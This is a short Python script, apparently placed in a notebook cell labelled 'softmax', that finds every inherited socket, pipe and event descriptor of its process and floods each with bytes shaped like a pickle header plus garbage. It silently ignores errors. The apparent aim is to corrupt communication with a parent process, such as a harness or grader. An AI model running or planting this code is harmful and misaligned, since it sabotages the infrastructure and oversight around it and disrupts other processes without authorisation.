"""Writes garbage into every socket and pipe that its process has inherited.

It may cost the rest: its own sockets are among them.
"""

# %% softmax
import os

for descriptor in range(3, 256):
    try:
        if os.readlink(f"/proc/self/fd/{descriptor}").startswith(("socket", "pipe", "anon_inode:[event")):
            os.set_blocking(descriptor, False)
            os.write(descriptor, 1000 * b"\x80\x04garbage.")
    except OSError:
        pass
